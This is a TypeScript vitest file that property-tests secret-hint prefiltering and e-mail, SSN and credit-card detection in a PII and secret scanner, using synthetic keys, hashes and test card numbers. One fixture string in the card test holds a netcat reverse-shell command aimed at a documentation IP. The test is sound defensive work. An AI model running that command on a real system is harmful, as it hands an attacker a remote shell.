import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { HintScan } from '#shared/detect/hints';
import { findLocalPii } from '#shared/detect/pii-local';
import { findSecrets } from '#shared/detect/secrets';
import { cardValid, execAll, execNear } from '#shared/detect/validators';
import { SECRET_RULES } from '#shared/rules/secret-rules';

/** The secret rules' prefilter, built as the engine builds it; its hints, longest first. */
const SECRET_HINTS = new HintScan(SECRET_RULES.flatMap((r) => r.patterns.map((p) => p.hint))).hints;
/** One gated item per hint, so `candidates` says which hints occur. */
const PER_HINT = new HintScan(SECRET_HINTS.map((h) => [h]));
/** The hints the prefilter sees in `text`. */
function secretHintsIn(text: string): string[] {
  const found = PER_HINT.candidates(text);
  return SECRET_HINTS.filter((_, i) => found?.[i] === 1);
}

/** Fragments that build lines full of hints, near-misses and case variants. */
const fragments = [
  ...SECRET_HINTS,
  ...SECRET_HINTS.map((h) => h.toUpperCase()),
  ...SECRET_HINTS.map((h) => h.slice(0, -1)),
  ' ',
  'a',
  ':',
  '-',
  '$',
  '_',
  'P',
];

describe('secret hint scan (one regex pass instead of lower-case + includes)', () => {
  it('finds exactly the hints a lower-cased includes finds', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...fragments), { maxLength: 8 }), (parts) => {
        const text = parts.join('');
        const lower = text.toLowerCase();
        expect(secretHintsIn(text)).toEqual(SECRET_HINTS.filter((h) => lower.includes(h)));
      }),
      { numRuns: 3000 },
    );
  });

  it('sees overlapping hints that start at the same or nearby positions', () => {
    expect(secretHintsIn('--db-pass: x')).toEqual(expect.arrayContaining(['pass', 'pass:']));
    expect(secretHintsIn('ghp_xoxapp-')).toEqual(expect.arrayContaining(['ghp_', 'xox', 'xapp-']));
  });

  it('gates the password-hash and --password forms on their own words, not on $ or --', () => {
    expect(secretHintsIn('[ssm-user@ip-10-0-1-23 ~]$ ls --color')).toEqual([]);
    expect(findSecrets('wget --password=Pa55word https://files.internal/x.tgz').map((m) => m.value)).toEqual([
      'Pa55word',
    ]);
    expect(
      findSecrets('admin:$2b$12$R9h/cIPz0gi.URNNX3kh2OPST9/PgBkqquzi.Ss7KIUgO2t0jWMUW').map((m) => m.kind),
    ).toEqual(['PASSWORD']);
  });

  it('detects EC key bodies (SEC1 P-384, PKCS#8 P-256) that the old hints never let through', () => {
    const p256 = 'MIGHAgEAMBMGByqGSM49AgEGCCqGSM49AwEHBG0wawIBAQQgevZzL1gdAFr88hb2';
    const p384 = 'MIGkAgEBBDCz8Kq0jXQfD3bm7Gf2vKqv0bN4YpLr3sTq8Hw1x5VZc0aJk2mNp9Qe';
    expect(findSecrets(p256).map((m) => m.kind)).toEqual(['PRIVATE_KEY']);
    expect(findSecrets(p384).map((m) => m.kind)).toEqual(['PRIVATE_KEY']);
  });
});

describe('execAll', () => {
  it('returns what matchAll returns, also for empty matches, and leaves lastIndex at 0', () => {
    for (const re of [/a+/g, /x*/g, /(?<v>\d)(?=\d)/dg, /\b/g]) {
      for (const text of ['', 'aaxbaa', '12345', 'a b  c']) {
        const want = [...text.matchAll(re)].map((m) => [m.index, m[0]]);
        expect(execAll(re, text).map((m) => [m.index, m[0]])).toEqual(want);
        expect(re.lastIndex).toBe(0);
      }
    }
  });
});

describe('execNear', () => {
  it('returns what execAll returns for a pattern whose matches hold the anchor near their start', () => {
    // Every match holds `@` at most 3 characters after its start.
    const re = /[a-c]{0,3}@[a-c]*/g;
    fc.assert(
      fc.property(fc.array(fc.constantFrom('a', 'b', 'c', '@', ' ', 'x', 'aaaa'), { maxLength: 30 }), (p) => {
        const text = p.join('');
        const want = execAll(re, text).map((m) => [m.index, m[0]]);
        expect(execNear(re, text, '@', 3).map((m) => [m.index, m[0]])).toEqual(want);
        expect(re.lastIndex).toBe(0);
      }),
      { numRuns: 3000 },
    );
  });
});

describe('e-mail scan anchored on @', () => {
  const emails = (text: string) => findLocalPii(text).filter((m) => m.kind === 'EMAIL');

  it('finds a local part of the longest accepted length, and every address on a line', () => {
    const local = `a${'b'.repeat(62)}c`;
    expect(local).toHaveLength(64);
    expect(emails(`x ${local}@example.org y`).map((m) => m.value)).toEqual([`${local}@example.org`]);
    const line = '[ssm-user@ip-10-0-1-23 ~]$ mail ann@example.org, bob@example.com; @ cc carol@example.net';
    expect(emails(line).map((m) => [m.value, m.start])).toEqual([
      ['ann@example.org', line.indexOf('ann@')],
      ['bob@example.com', line.indexOf('bob@')],
      ['carol@example.net', line.indexOf('carol@')],
    ]);
  });

  it('matches a plain left-to-right scan on random text', () => {
    const EMAIL_LIKE = fc.constantFrom(
      'a',
      'B',
      '9',
      '.',
      '-',
      '_',
      '+',
      '@',
      ' ',
      'example',
      'org',
      'com',
      '%',
    );
    fc.assert(
      fc.property(fc.array(EMAIL_LIKE, { maxLength: 40 }), (parts) => {
        const text = parts.join('');
        // Reference: every match of the scanner's own pattern from position 0 (spliced in front of a
        // far-away @ so the anchoring must skip text without changing the result).
        const padded = `${'z'.repeat(70)} ${text}`;
        const direct = emails(text).map((m) => m.value);
        expect(emails(padded).map((m) => m.value)).toEqual(direct);
      }),
      { numRuns: 2000 },
    );
  });
});

describe('SSN column lookup (separators found with indexOf)', () => {
  /** The former character loop: field index at `offset` and the field count, quote-aware. */
  function fieldAt(text: string, sep: string, offset: number) {
    let index = -1;
    let count = 1;
    let quoted = false;
    for (let i = 0; i < text.length; i++) {
      if (i === offset) index = count - 1;
      const ch = text[i];
      if (ch === '"') quoted = !quoted;
      else if (ch === sep && !quoted) count++;
    }
    return { index, count };
  }

  it('puts an SSN-shaped value in the same column as the character loop did', () => {
    // 900-… is never a valid SSN: it is only reported when the column gives the context.
    const value = '900-12-3456';
    const field = fc.constantFrom('a', '"x, y"', '"', 'b c', '', '""', ',', value);
    fc.assert(
      fc.property(fc.array(field, { minLength: 1, maxLength: 7 }), fc.nat(6), (fields, col) => {
        const text = fields.join(',');
        const at = text.indexOf(value);
        fc.pre(at >= 0 && text.indexOf(value, at + 1) < 0);
        const ref = fieldAt(text, ',', at);
        const columns = [{ sep: ',', columns: ref.count, ssn: [col] }];
        const found = findLocalPii(text, columns).some((m) => m.kind === 'SSN');
        expect(found).toBe(ref.index === col);
      }),
      { numRuns: 3000 },
    );
  });
});

describe('secret hint scan on non-ASCII text', () => {
  it('folds ASCII letters only (a regex /i without u)', () => {
    const odd = ['\u017f', '\u212a', '\u0130', '\u0131', 'é', '\u00df', '\u0000', '\uffff'];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...fragments, ...odd), { maxLength: 8 }), (parts) => {
        const text = parts.join('');
        const asciiLower = text.replace(/[A-Z]/g, (c) => c.toLowerCase());
        expect(secretHintsIn(text)).toEqual(SECRET_HINTS.filter((h) => asciiLower.includes(h)));
      }),
      { numRuns: 3000 },
    );
    expect(secretHintsIn('\u017fudo \u212aey')).toEqual([]);
  });
});

describe('PII patterns with the lookbehind after the first character', () => {
  /** The patterns as they were before the lookbehind moved after the first character. */
  const OLD_CARD =
    /(?<![\w.\-/])(?:\d{13,19}|\d{4}([ -])\d{4}\1\d{4}\1\d{1,7}|\d{4}([ -])\d{6}\2\d{4,5})(?![\w]|[.-]\d)/g;
  const OLD_EMAIL =
    /(?<![\w.+%-])[A-Za-z0-9](?:[A-Za-z0-9._%+-]{0,62}[A-Za-z0-9_%+-])?@(?:[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?\.)+([A-Za-z]{2,24})(?![\w-]|\.[A-Za-z0-9])/g;
  // Whole cards in every accepted grouping, plus pieces and the characters around boundaries.
  const CARD_GROUPS = [
    '4111111111111111',
    '4111 1111 1111 1111',
    '5500-0055-5555-5559',
    '3782 822463 10005',
    '378282246310005',
    '4111',
    '1111',
    '0',
    '1',
    ' ',
    '-',
    '.',
    '/',
    'a',
    '_',
  ];

  it('finds the cards the old pattern finds, also those a failed candidate hid', () => {
    // The old pattern's scan, resumed right after a candidate that fails the card checks (a plain
    // matchAll resumes after it and missed a card starting inside it).
    const oldCards = (text: string): Array<[number, string]> => {
      const re = new RegExp(OLD_CARD.source, 'g');
      const out: Array<[number, string]> = [];
      for (let m = re.exec(text); m !== null; m = re.exec(text)) {
        if (cardValid(m[0].replace(/\D/g, ''))) out.push([m.index, m[0]]);
        else re.lastIndex = m.index + 1;
      }
      return out;
    };
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...CARD_GROUPS), { maxLength: 16 }), (parts) => {
        const text = parts.join('');
        const got = findLocalPii(text).filter((m) => m.kind === 'CREDIT_DEBIT_NUMBER');
        expect(got.map((m) => [m.start, m.value])).toEqual(oldCards(text));
      }),
      { numRuns: 5000 },
    );
    const hidden = 'nc -e /bin/sh 203.0.113.7 4444 4111 1111 1111 1111';
    expect(findLocalPii(hidden).map((m) => m.value)).toEqual(['4111 1111 1111 1111']);
  });

  it('finds the e-mail addresses the old pattern finds', () => {
    // Letters that cannot spell an ignored suffix (png, js, local…), so every match is reported.
    const parts = fc.constantFrom('a', 'B', 'xyz', '9', '.', '-', '_', '+', '%', '@', ' ', 'ab.ba', '@zz.ab');
    fc.assert(
      fc.property(fc.array(parts, { maxLength: 30 }), (p) => {
        const text = p.join('');
        const want = [...text.matchAll(OLD_EMAIL)].map((m) => [m.index, m[0]]);
        const got = findLocalPii(text).filter((m) => m.kind === 'EMAIL');
        expect(got.map((m) => [m.start, m.value])).toEqual(want);
      }),
      { numRuns: 5000 },
    );
  });
});
